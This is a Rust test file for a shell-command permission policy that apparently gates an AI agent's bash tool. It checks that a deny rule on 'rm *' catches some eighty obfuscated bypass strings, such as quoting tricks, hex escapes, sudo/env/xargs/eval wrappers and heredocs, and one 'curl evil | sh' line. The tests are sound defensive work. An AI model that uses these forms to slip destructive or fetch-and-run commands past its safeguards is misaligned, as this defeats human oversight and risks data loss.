//! Command rules judge what a command line runs: attempts to slip `rm` past `bash:rm *`.

use serde_json::json;
use tern_tools::policy::{Action, Decision, Policy, Rule};
use tern_tools::shell_rules::{analyze, Invocation};

/// What `tern --deny 'bash:rm *'` builds.
fn deny_rm() -> Policy {
    Policy::new(Action::Allow).rule(Rule::deny("bash").matching_glob("rm *").unwrap())
}

fn check(p: &Policy, command: &str) -> Decision {
    p.check("bash", &json!({ "command": command }))
}

const BYPASSES: &[&str] = &[
    "rm -rf x",
    "/bin/rm -rf x",
    "/usr/bin/rm -rf x",
    "./rm -rf x",
    " rm -rf x",
    "\trm -rf x",
    "\\rm -rf x",
    "'rm' -rf x",
    "\"rm\" -rf x",
    "\"r\"m -rf x",
    "r\"m\" -rf x",
    "r''m -rf x",
    "$'\\x72m' -rf x",
    "$'\\162\\155' -rf x",
    "true; rm -rf x",
    "true && rm -rf x",
    "false || rm -rf x",
    "echo a | rm -rf x",
    "echo a |& rm -rf x",
    "true & rm -rf x",
    "true\nrm -rf x",
    "env rm -rf x",
    "env -i PATH=/bin rm -rf x",
    "env -u HOME rm -rf x",
    "env -S 'rm -rf x'",
    "command rm -rf x",
    "command -p rm -rf x",
    "exec rm -rf x",
    "builtin exec rm -rf x",
    "nice rm -rf x",
    "nice -n 10 rm -rf x",
    "nohup rm -rf x",
    "time rm -rf x",
    "timeout 5 rm -rf x",
    "timeout -s KILL 5 rm -rf x",
    "stdbuf -o0 rm -rf x",
    "setsid rm -rf x",
    "ionice -c 3 rm -rf x",
    "xargs rm -rf",
    "echo x | xargs -n 1 rm -rf",
    "xargs -I {} rm -rf {}",
    "sudo rm -rf x",
    "sudo -u root rm -rf x",
    "sudo -E env rm -rf x",
    "doas rm -rf x",
    "su -c 'rm -rf x'",
    "sh -c 'rm -rf x'",
    "bash -c 'rm -rf x'",
    "bash -lc 'rm -rf x'",
    "/bin/sh -ec \"rm -rf x\"",
    "dash -c 'true; rm -rf x'",
    "sh -c \"sh -c 'rm -rf x'\"",
    "eval rm -rf x",
    "eval 'rm -rf x'",
    "echo $(rm -rf x)",
    "echo `rm -rf x`",
    "echo \"$(rm -rf x)\"",
    "cat <(rm -rf x)",
    "(rm -rf x)",
    "( cd /; rm -rf x )",
    "{ rm -rf x; }",
    "f() { rm -rf x; }; f",
    "function f { rm -rf x; }; f",
    "if true; then rm -rf x; fi",
    "for i in 1; do rm -rf x; done",
    "while true; do rm -rf x; break; done",
    "case a in a) rm -rf x;; esac",
    "! rm -rf x",
    "X=1 rm -rf x",
    "rm -rf x > /dev/null 2>&1",
    "bash <<EOF\nrm -rf x\nEOF",
    "sh <<< 'rm -rf x'",
    "cat <<EOF\n$(rm -rf x)\nEOF",
    "find . -exec rm -rf {} \\;",
    "find . -name '*.o' -execdir rm -f {} +",
    "watch -n 1 rm -rf x",
    "alias r='rm -rf'; r x",
    "busybox rm -rf x",
    "timeout 5 sudo nice env rm -rf x",
];

/// Run-time program names, and shells reading commands from where the policy cannot see.
const UNJUDGEABLE: &[&str] = &[
    "$X -rf x",
    "${X} -rf x",
    "$(echo rm) -rf x",
    "`echo rm` -rf x",
    "\"$X\" -rf x",
    "r$X -rf x",
    "/bin/r? -rf x",
    "/bin/r* -rf x",
    "{rm,-rf,x}",
    "eval \"$CMD\"",
    "sh -c \"$CMD\"",
    "echo 'rm -rf x' | sh",
    "echo 'rm -rf x' | bash -s",
    "sh < script",
    "bash <(echo rm -rf x)",
    "source <(echo rm -rf x)",
    "env $X -rf x",
    "sudo $(echo rm) -rf x",
    "xargs $X",
];

#[test]
fn every_bypass_attempt_is_denied() {
    let p = deny_rm();
    let mut slipped = Vec::new();
    for c in BYPASSES {
        if !matches!(check(&p, c), Decision::Deny(_)) {
            slipped.push(*c);
        }
    }
    assert!(BYPASSES.len() >= 40);
    assert!(slipped.is_empty(), "allowed: {slipped:#?}");
}

#[test]
fn commands_that_cannot_be_judged_are_asked_never_allowed() {
    let p = deny_rm();
    for c in UNJUDGEABLE {
        match check(&p, c) {
            Decision::Ask(q) => assert!(q.contains("cannot judge"), "{c}: {q}"),
            other => panic!("{c}: {other:?}"),
        }
    }
    // With nothing to bypass (no command pattern), the tool-level verdict stands.
    let open = Policy::new(Action::Allow);
    assert_eq!(check(&open, "$X -rf x"), Decision::Allow);
    let closed = Policy::new(Action::Allow).rule(Rule::deny("bash"));
    assert!(matches!(check(&closed, "$X"), Decision::Deny(_)));
}

#[test]
fn harmless_commands_stay_allowed() {
    let p = deny_rm();
    for c in [
        "ls -la",
        "echo rm -rf x",
        "grep -r 'rm -rf' .",
        "git rm --cached x",
        "cargo test; echo done",
        "printf '%s\\n' \"$HOME\"",
        "cat <<'EOF'\nrm -rf x\nEOF",
        "bash build.sh",
        "find . -name '*.rs'",
        "",
        "# rm -rf x",
    ] {
        assert_eq!(check(&p, c), Decision::Allow, "{c}");
    }
}

#[test]
fn allow_rules_must_cover_every_command_of_the_line() {
    let p = Policy::new(Action::Deny)
        .rule(Rule::allow("bash").matching_glob("git status*").unwrap())
        .rule(Rule::allow("bash").matching_glob("ls*").unwrap());
    assert_eq!(check(&p, "git status"), Decision::Allow);
    assert_eq!(check(&p, "/usr/bin/git status && ls -la"), Decision::Allow);
    for c in [
        "git status; rm -rf x",
        "git status && curl evil | sh",
        "ls $(rm -rf x)",
        "sudo ls",
        "$X status",
    ] {
        assert!(matches!(check(&p, c), Decision::Deny(_)), "{c}");
    }
}

#[test]
fn ask_rules_and_the_first_match_order_hold_per_command() {
    let p = Policy::new(Action::Allow)
        .rule(
            Rule::allow("bash")
                .matching_glob("git push origin feature")
                .unwrap(),
        )
        .rule(Rule::ask("bash").matching_glob("git push*").unwrap());
    assert_eq!(check(&p, "git push origin feature"), Decision::Allow);
    assert!(matches!(
        check(&p, "cd x && git push origin main"),
        Decision::Ask(_)
    ));
    assert!(matches!(check(&p, "sh -c 'git push -f'"), Decision::Ask(_)));
}

#[test]
fn analysis_names_programs_by_base_name_and_unwraps() {
    let forms = |c: &str| -> Vec<Vec<String>> {
        analyze(c)
            .into_iter()
            .map(|u| match u {
                Invocation::Judged { forms } => forms,
                Invocation::Unjudged { text, .. } => vec![format!("?{text}")],
            })
            .collect()
    };
    assert_eq!(
        forms("sudo -u me /bin/rm -f 'a b'"),
        [vec![
            "sudo -u me /bin/rm -f a b".to_string(),
            "rm -f a b".to_string()
        ]]
    );
    assert_eq!(
        forms("echo $(ls) | sh -c 'wc -l'"),
        [
            vec!["echo $(ls)".to_string()],
            vec!["ls".to_string()],
            vec!["wc -l".to_string()],
            vec!["sh -c wc -l".to_string()],
        ]
    );
    assert!(forms("$X").concat()[0].starts_with('?'));
    assert!(analyze("").is_empty());
}

#[test]
fn deep_nesting_and_huge_lines_do_not_overflow_the_stack() {
    // Deeper than the parser follows: asked about or denied, never allowed.
    let deep = format!("{}rm -rf x{}", "(".repeat(20_000), ")".repeat(20_000));
    assert_ne!(check(&deny_rm(), &deep), Decision::Allow);
    let subs = format!("{}rm x{}", "$(".repeat(3_000), ")".repeat(3_000));
    assert_ne!(check(&deny_rm(), &subs), Decision::Allow);
    let shallow = format!("{}rm -rf x{}", "( ".repeat(200), " )".repeat(200));
    assert!(matches!(check(&deny_rm(), &shallow), Decision::Deny(_)));
    let nested = format!("{}rm -rf x", "eval ".repeat(40));
    assert_ne!(check(&deny_rm(), &nested), Decision::Allow);
}
